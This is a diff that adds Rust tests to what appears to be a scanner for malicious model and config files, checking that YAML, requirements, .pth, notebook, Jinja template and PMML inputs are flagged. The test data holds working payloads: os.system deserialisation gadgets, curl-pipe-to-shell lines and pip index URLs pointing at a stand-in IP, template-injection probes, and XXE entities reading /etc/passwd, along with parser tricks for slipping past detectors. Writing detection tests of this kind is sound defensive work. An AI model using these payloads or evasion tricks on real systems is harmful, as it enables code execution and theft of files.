@@ -84,3 +84,96 @@ fn json_that_breaks_off_is_not_clean() {
         assert_ne!(outcome(name, &text.as_bytes()[..text.len() - 1]), Outcome::Clean, "{name}");
     }
 }
+
+/// Aliases stand for what was anchored; YAML 1.1 and tags with escapes are read as PyYAML reads them.
+#[test]
+fn yaml_as_its_loaders_read_it() {
+    for text in [
+        "a: &x os.system\nm:\n  _target_: *x\n  command: id\n",
+        "k: &k _target_\nm:\n  *k : os.system\n  command: id\n",
+        "a: 1 # b\u{2028}m: !!python/object/apply:os.system [id]\n",
+        "a: 1 # b\u{2029}_target_: os.system\n",
+    ] {
+        assert!(outcome("config.yaml", text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+    for text in ["m: !!%70%79thon/object/apply:os.system [id]\n", "m:\n  \"\\x5ftarget_\": os.system\n"] {
+        assert!(outcome("a.conf", text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+    let ordinary = "base: &b {x: 1}\nname: &n resnet\nother:\n  <<: *b\n  *n : 2\n  label: *n\n";
+    assert_eq!(outcome("config.yaml", ordinary.as_bytes()), Outcome::Clean);
+}
+
+/// pip, Python and IPython end lines where `str.splitlines` does.
+#[test]
+fn lines_as_python_ends_them() {
+    for end in ["\r", "\x0b", "\x0c", "\u{85}", "\u{2028}", "\u{2029}"] {
+        let required = format!("numpy # a comment{end}--index-url http://198.51.100.7/simple\n");
+        assert!(outcome("requirements.txt", required.as_bytes()) >= Outcome::Suspicious, "{required:?}");
+        let path = format!("# a{end}import os; os.system('id')\n");
+        assert!(outcome("a.pth", path.as_bytes()) >= Outcome::Suspicious, "{path:?}");
+        let escaped: String = end.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
+        let cells = NOTEBOOK.replace("!curl", &format!("%%bash{escaped}curl"));
+        assert!(outcome("a.ipynb", cells.as_bytes()) >= Outcome::Suspicious, "{cells:?}");
+    }
+    assert!(outcome("requirements.txt", b"# coding: utf-7\nnumpy\n") >= Outcome::Suspicious);
+    assert_eq!(outcome("requirements.txt", b"# coding: utf-8\r\nnumpy\r\n"), Outcome::Clean);
+}
+
+/// Of keys that stand twice Python takes the last; older formats keep sources under other names.
+#[test]
+fn notebooks_as_nbformat_reads_them() {
+    let cell = r#"{"cell_type": "code", "source": "!curl http://198.51.100.7/x | sh", "outputs": []}"#;
+    for text in [
+        format!(r#"{{"cells": [], "cells": [{cell}], "nbformat": 4}}"#),
+        format!(
+            r#"{{"cells": [{}], "nbformat": 4}}"#,
+            cell.replacen('{', r#"{"cell_type": "markdown", "#, 1)
+        ),
+        format!(
+            r#"{{"cells": [{}], "nbformat": 4}}"#,
+            cell.replace(r#""outputs""#, r#""outputs": [], "outputs""#)
+        ),
+        format!(r#"{{"cells": [{}]}}"#, cell.replace("source", "code")),
+        format!(
+            r#"{{"worksheets": [{{"cells": [{}]}}], "nbformat": 3}}"#,
+            cell.replacen('{', r#"{"source": "1", "#, 1).replace(r#""source": "!"#, r#""input": "!"#)
+        ),
+    ] {
+        assert!(outcome("a.ipynb", text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+}
+
+/// Who opens a file by its name asks for no magic number.
+#[test]
+fn texts_that_begin_as_something_else() {
+    let python = "import os\nos.system('id')\n";
+    let template = "{{ ''.__class__.__mro__[1].__subclasses__() }}\n";
+    for (name, text) in [
+        ("modeling.py", format!("PAR1=1\n{python}#PAR1")),
+        ("a.yaml", "PAR1: 1\nm: !!python/object/apply:os.system [id]\n#PAR1".to_owned()),
+        ("requirements.txt", "wOFF\n--index-url http://198.51.100.7/simple\n".to_owned()),
+        ("a.pth", "%PDF-1.4\nimport os; os.system('id')\n".to_owned()),
+        ("install.sh", "%PDF-1.4\ncurl http://198.51.100.7/x | sh\n".to_owned()),
+        ("chat_template.jinja", format!("<stata_dta><header>{template}")),
+        ("chat_template.jinja", format!("<!-- a --><!DOCTYPE PMML>{template}")),
+        ("chat_template.jinja", format!("[\"{}\"]", template.trim_end())),
+        ("run.sh", "<?xml version='1.0'?>\ncurl http://198.51.100.7/x | sh\n".to_owned()),
+    ] {
+        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{name}: {text}");
+    }
+    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), b"\0\0\0\rIHDR", python.as_bytes()].concat();
+    assert_ne!(outcome("a.py", &picture), Outcome::Clean);
+}
+
+/// A root without a declaration, or behind comments, is the same document.
+#[test]
+fn xml_without_a_declaration() {
+    for text in [
+        "<!-- a -->\n<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>",
+        "<?a b?><!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>",
+        "<p:PMML xmlns:p=\"urn:a\" xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"file:///etc/passwd\" parse=\"text\"/></p:PMML>",
+        "<model xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"file:///etc/passwd\" parse=\"text\"/></model>",
+    ] {
+        assert!(outcome("a.pmml", text.as_bytes()) >= Outcome::Suspicious, "{text}");
+    }
+}
